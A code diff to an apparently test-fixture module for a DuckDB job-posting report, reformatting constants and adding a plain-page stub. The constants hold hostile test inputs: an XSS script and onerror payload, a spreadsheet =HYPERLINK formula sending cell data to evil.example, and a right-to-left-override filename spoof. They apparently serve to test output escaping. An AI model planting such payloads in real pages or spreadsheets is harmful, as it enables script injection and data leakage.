@@ -11,8 +11,11 @@ from typing import Any
 
 import duckdb
 
-SCRIPT_TITLE = "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">"
+SCRIPT_TITLE = (
+    "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">"
+)
 FORMULA_COMPANY = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+PLAIN_PAGE = "<!doctype html><title>page</title>"
 RIGHT_TO_LEFT = "\u202egnp.exe\u202c engineer"
 
 TABLES = r"""
@@ -118,7 +121,8 @@ CREATE TABLE out.source_health AS
 SELECT * FROM (VALUES
     ('ashby', DATE '2026-03-01', 'ok', 12, 12, 40, NULL),
     ('ashby', DATE '2026-02-01', 'failed', 12, 0, 0, 'an older state that must not show'),
-    ('lever', DATE '2026-03-01', 'failed', 3, 0, 0, getvariable('script') || repeat(' and so on', 90))
+    ('lever', DATE '2026-03-01', 'failed', 3, 0, 0,
+        getvariable('script') || repeat(' and so on', 90))
 ) AS health (source, observed_on, state, boards_asked, boards_answered, postings_seen, reason);
 CREATE TABLE out.refused_rows AS
 SELECT
@@ -163,3 +167,8 @@ def change(path: Path, sql: str) -> None:
     """Runs `sql` on the working warehouse and closes it."""
     with duckdb.connect(str(path)) as con:
         con.execute(sql)
+
+
+def plain_page(con: duckdb.DuckDBPyConnection, run: object, reports: object = ()) -> str:
+    """Stands in for `render_report` where the page is not what a test is about."""
+    return PLAIN_PAGE
